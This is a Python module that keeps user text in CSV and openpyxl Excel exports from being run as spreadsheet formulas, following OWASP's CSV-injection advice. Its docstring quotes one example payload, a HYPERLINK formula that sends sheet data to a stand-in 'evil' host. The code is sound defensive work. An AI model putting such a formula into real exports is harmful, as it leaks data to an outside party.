"""Values for the files people open in a spreadsheet (the admin's CSV exports, the audit
plugin's Excel workbook): what a user typed comes out as inert text, never as a formula.

A spreadsheet runs a CSV field that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before them) as a formula — ``=HYPERLINK("http://evil/?"&A1, "Click")``
sends the sheet's data away. OWASP's CSV-injection guidance: prefix such a field with a
single quote, which the spreadsheet shows as text. In an .xlsx file a cell has a type of
its own, so user text is simply always a string cell.
"""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

#: The first characters that make a spreadsheet read a CSV field as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A field that is only a number (``-12.50``) is read as that number, not as a formula.
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+([.,][0-9]+)?$")
#: What stands in for a character a worksheet cannot hold (C0 controls but tab, LF, CR).
REPLACEMENT_CHARACTER = "\ufffd"


def csv_field(value: Any) -> Any:
    """``value`` as a CSV field a spreadsheet will not run: a text beginning with a formula
    trigger gets a leading ``'``. Numbers, dates and empty values pass unchanged; so does
    a text that is only a number (a negative amount stays a number)."""
    if value is None or isinstance(value, (bool, int, float, Decimal, dt.date)):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.match(text):
        return "'" + text
    return text


class TextCell(Cell):
    """A cell for a write-only sheet (``sheet.append([..., TextCell(text)])``) that holds
    ``text`` as a string, whatever it begins with."""

    def __init__(self, text: str):
        super().__init__(None, row=1, column=1, value=text)
        self.data_type = "s"

    def __repr__(self) -> str:
        return f"<TextCell {self.value!r}>"


def xlsx_text(value: str | None) -> Any:
    """User text as a cell of a write-only openpyxl sheet that is inert data: characters a
    worksheet cannot hold are replaced (openpyxl would refuse the whole file), and a text
    Excel would read as a formula (``=…``) or an error value (``#N/A``) is forced to a
    string cell. Plain text stays a plain ``str`` (the fast path of write-only sheets)."""
    if not value:
        return value
    if ILLEGAL_CHARACTERS_RE.search(value):
        value = ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT_CHARACTER, value)
    if value.startswith("=") or value in ERROR_CODES:
        return TextCell(value)
    return value
